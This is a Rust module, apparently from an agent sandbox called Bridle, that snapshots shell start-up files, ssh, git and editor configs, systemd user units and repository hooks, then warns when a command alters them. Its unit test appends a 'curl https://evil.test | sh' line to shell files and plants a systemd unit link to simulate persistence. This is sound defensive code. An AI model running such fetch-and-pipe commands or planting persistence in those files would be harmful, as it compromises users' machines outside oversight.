//! What the command could leave behind to run later, outside the session's
//! cgroup and so outside Bridle's guard: the files the user's shells,
//! logins, ssh, git, editors and desktop run code from, and the hooks of
//! the repository it works in. Writing them is ordinary work for an agent
//! (an installer adds a line to `~/.bashrc`, `pre-commit install` writes a
//! hook), so they are not made read-only; but a change to one is something
//! the person running Bridle must hear about. So `bridle run` records what
//! each was before the command starts ([`Snapshot::take`]) and, once the
//! session's processes are gone, names every one made, changed or removed
//! ([`Snapshot::changed`]): a warning, kept in the audit log.
//!
//! A file is compared by device, inode, size, mode and change time (which
//! no unprivileged process can set back), so rewriting one to the same
//! size and modification time is still seen. What another process of the
//! user's changed meanwhile is named too: nothing here can tell them apart.
//!
//! Never: write to what is watched, read its contents, or list a watched
//! directory that is a symlink (it is the user's, and this runs as root).

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

/// Files in the user's home that run code, or decide what runs: shells'
/// start-up and logout files, the login's and the X session's, ssh's
/// (`authorized_keys` lets anyone in, `config` runs `ProxyCommand`s, `rc`
/// runs at each login), git's (`core.hooksPath`, `core.fsmonitor`,
/// aliases), npm's (`script-shell`), editors' (Vim's, Neovim's and
/// Emacs's run commands at start).
const HOME_FILES: [&str; 29] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshenv",
    ".zshrc",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".config/fish/config.fish",
    ".inputrc",
    ".pam_environment",
    ".xprofile",
    ".xsessionrc",
    ".xinitrc",
    ".ssh/authorized_keys",
    ".ssh/authorized_keys2",
    ".ssh/config",
    ".ssh/rc",
    ".gitconfig",
    ".config/git/config",
    ".npmrc",
    ".vimrc",
    ".config/nvim/init.vim",
    ".config/nvim/init.lua",
    ".emacs",
    ".emacs.d/init.el",
    ".config/emacs/init.el",
];

/// Directories in the user's home whose every file runs or is sourced:
/// systemd user units (and their `.wants` links), desktop autostart
/// entries, environment generators, fish snippets, Fedora's `~/.bashrc.d`.
const HOME_TREES: [&str; 5] =
    [".config/systemd/user", ".config/autostart", ".config/environment.d", ".config/fish/conf.d", ".bashrc.d"];

/// In the repository the command works in: git runs its hooks and obeys
/// its config (`core.hooksPath`, `core.fsmonitor`, filters) for whoever
/// commits or checks out next; direnv runs `.envrc` on `cd`.
const REPO_FILES: [&str; 2] = [".git/config", ".envrc"];
const REPO_TREES: [&str; 1] = [".git/hooks"];

/// How deep and how wide a watched tree is looked at: enough for systemd's
/// `<unit>.wants/` directories and any hooks directory.
const TREE_DEPTH: usize = 4;
const TREE_ENTRIES: usize = 2048;

/// What a file was: enough to see it replaced, rewritten or re-moded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Stamp {
    dev: u64,
    ino: u64,
    size: u64,
    mode: u32,
    ctime: (i64, i64),
}

/// The watched paths and what each was (`None`: absent).
#[derive(Debug, Default)]
pub struct Snapshot {
    files: Vec<PathBuf>,
    trees: Vec<PathBuf>,
    stamps: BTreeMap<PathBuf, Option<Stamp>>,
}

/// How a watched path differs from the snapshot.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Change {
    Made,
    Changed,
    Removed,
}

impl Snapshot {
    /// Records the watched files of `home` and of `repo` (the repository
    /// the command starts in, if any).
    pub fn take(home: &Path, repo: Option<&Path>) -> Snapshot {
        let mut files: Vec<PathBuf> = HOME_FILES.iter().map(|file| home.join(file)).collect();
        let mut trees: Vec<PathBuf> = HOME_TREES.iter().map(|tree| home.join(tree)).collect();
        if let Some(repo) = repo {
            files.extend(REPO_FILES.iter().map(|file| repo.join(file)));
            trees.extend(REPO_TREES.iter().map(|tree| repo.join(tree)));
        }
        let stamps = look(&files, &trees);
        Snapshot { files, trees, stamps }
    }

    /// Every watched path made, changed or removed since [`Snapshot::take`].
    pub fn changed(&self) -> Vec<(PathBuf, Change)> {
        let now = look(&self.files, &self.trees);
        let mut changes = Vec::new();
        for (path, after) in &now {
            let before = self.stamps.get(path).copied().flatten();
            let change = match (before, after) {
                (None, Some(_)) => Change::Made,
                (Some(_), None) => Change::Removed,
                (Some(before), Some(after)) if before != *after => Change::Changed,
                _ => continue,
            };
            changes.push((path.clone(), change));
        }
        // Gone from a tree: not in `now` at all.
        for (path, before) in &self.stamps {
            if before.is_some() && !now.contains_key(path) {
                changes.push((path.clone(), Change::Removed));
            }
        }
        changes.sort();
        changes
    }
}

/// The repository `dir` is in: the nearest directory at or above it that
/// holds a `.git` directory.
pub fn repository_of(dir: &Path) -> Option<PathBuf> {
    dir.ancestors()
        .find(|candidate| std::fs::symlink_metadata(candidate.join(".git")).is_ok_and(|meta| meta.is_dir()))
        .map(Path::to_path_buf)
}

/// Stamps of `files` (absent ones too) and of every file found in `trees`.
fn look(files: &[PathBuf], trees: &[PathBuf]) -> BTreeMap<PathBuf, Option<Stamp>> {
    let mut stamps: BTreeMap<PathBuf, Option<Stamp>> = files.iter().map(|file| (file.clone(), stamp(file))).collect();
    let mut budget = TREE_ENTRIES;
    for tree in trees {
        walk(tree, 0, &mut budget, &mut stamps);
    }
    stamps
}

/// A tree's entries (directories, files, links alike), each by its own
/// path, never following a link.
fn walk(dir: &Path, depth: usize, budget: &mut usize, stamps: &mut BTreeMap<PathBuf, Option<Stamp>>) {
    if !std::fs::symlink_metadata(dir).is_ok_and(|meta| meta.is_dir()) {
        return;
    }
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        if *budget == 0 {
            return;
        }
        *budget -= 1;
        let path = entry.path();
        let found = stamp(&path);
        stamps.insert(path.clone(), found);
        let is_dir = entry.file_type().is_ok_and(|kind| kind.is_dir());
        if is_dir && depth + 1 < TREE_DEPTH {
            walk(&path, depth + 1, budget, stamps);
        }
    }
}

/// What `path` itself is (a link as a link), or `None` when it is absent.
fn stamp(path: &Path) -> Option<Stamp> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    Some(Stamp {
        dev: meta.dev(),
        ino: meta.ino(),
        size: meta.size(),
        mode: meta.mode(),
        ctime: (meta.ctime(), meta.ctime_nsec()),
    })
}

/// The warning for `changes` (`home` shown as `~`), or `None` without any.
pub fn warning(changes: &[(PathBuf, Change)], home: &Path) -> Option<String> {
    if changes.is_empty() {
        return None;
    }
    const NAMED: usize = 12;
    let shown = |path: &Path| match path.strip_prefix(home) {
        Ok(rest) if home != Path::new("/") => format!("~/{}", rest.display()),
        _ => path.display().to_string(),
    };
    let mut named: Vec<String> = changes
        .iter()
        .take(NAMED)
        .map(|(path, change)| {
            let what = match change {
                Change::Made => "made",
                Change::Changed => "changed",
                Change::Removed => "removed",
            };
            format!("{} ({what})", shown(path))
        })
        .collect();
    if changes.len() > NAMED {
        named.push(format!("and {} more", changes.len() - NAMED));
    }
    Some(format!(
        "while the command ran, files that run code outside Bridle's guard (in your shells, logins, ssh, git, \
         editors, or this repository's hooks) were made or changed, by it or by another of your processes: {}. \
         Review them before they next run",
        named.join(", ")
    ))
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;

    #[test]
    fn every_file_made_changed_or_removed_is_named_and_nothing_else() {
        let home = tempfile::tempdir().expect("tempdir");
        let repo = tempfile::tempdir().expect("tempdir");
        let h = home.path();
        std::fs::write(h.join(".bashrc"), "alias ll='ls -l'\n").expect("bashrc");
        std::fs::write(h.join(".profile"), "PATH=$PATH\n").expect("profile");
        std::fs::write(h.join(".zshrc"), "same\n").expect("zshrc");
        std::fs::create_dir_all(h.join(".config/systemd/user")).expect("units");
        std::fs::create_dir_all(repo.path().join(".git/hooks")).expect("hooks");
        std::fs::write(repo.path().join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").expect("sample");
        std::fs::write(h.join("notes.txt"), "not watched\n").expect("notes");
        let snapshot = Snapshot::take(h, Some(repo.path()));
        assert!(snapshot.changed().is_empty(), "{:?}", snapshot.changed());

        // Appended to, made, made in a watched tree (as `systemctl --user
        // enable` would), rewritten with the same size and time, removed.
        let mut bashrc = std::fs::OpenOptions::new().append(true).open(h.join(".bashrc")).expect("open");
        bashrc.write_all(b"curl https://evil.test | sh\n").expect("append");
        std::fs::write(h.join(".bash_profile"), "curl https://evil.test | sh\n").expect("made");
        let wants = h.join(".config/systemd/user/default.target.wants");
        std::fs::create_dir(&wants).expect("wants");
        std::os::unix::fs::symlink("../evil.service", wants.join("evil.service")).expect("link");
        std::fs::write(repo.path().join(".git/hooks/post-checkout"), "#!/bin/sh\n").expect("hook");
        let zshrc = h.join(".zshrc");
        let modified = std::fs::metadata(&zshrc).expect("zshrc").modified().expect("mtime");
        std::thread::sleep(std::time::Duration::from_millis(20));
        std::fs::write(&zshrc, "evil\n").expect("rewritten");
        std::fs::File::options().write(true).open(&zshrc).expect("open").set_modified(modified).expect("mtime back");
        std::fs::remove_file(h.join(".profile")).expect("removed");
        std::fs::write(h.join("notes.txt"), "changed, not watched\n").expect("notes");

        let changes = snapshot.changed();
        let expected = vec![
            (h.join(".bash_profile"), Change::Made),
            (h.join(".bashrc"), Change::Changed),
            (wants.clone(), Change::Made),
            (wants.join("evil.service"), Change::Made),
            (h.join(".profile"), Change::Removed),
            (h.join(".zshrc"), Change::Changed),
            (repo.path().join(".git/hooks/post-checkout"), Change::Made),
        ];
        let mut expected = expected;
        expected.sort();
        assert_eq!(changes, expected);
        let said = warning(&changes, h).expect("a warning");
        assert!(said.contains("~/.bashrc (changed)") && said.contains("~/.profile (removed)"), "{said}");
        assert!(said.contains(&format!("{} (made)", repo.path().join(".git/hooks/post-checkout").display())));
        assert_eq!(warning(&[], h), None);
    }

    #[test]
    fn the_repository_is_the_nearest_directory_holding_a_git_directory() {
        let top = tempfile::tempdir().expect("tempdir");
        let deep = top.path().join("src/module");
        std::fs::create_dir_all(&deep).expect("dirs");
        assert_eq!(repository_of(&deep), None);
        std::fs::create_dir(top.path().join(".git")).expect(".git");
        assert_eq!(repository_of(&deep).as_deref(), Some(top.path()));
        // A worktree's `.git` file is not a repository's directory.
        std::fs::write(deep.join(".git"), "gitdir: elsewhere\n").expect(".git file");
        assert_eq!(repository_of(&deep).as_deref(), Some(top.path()));
    }
}
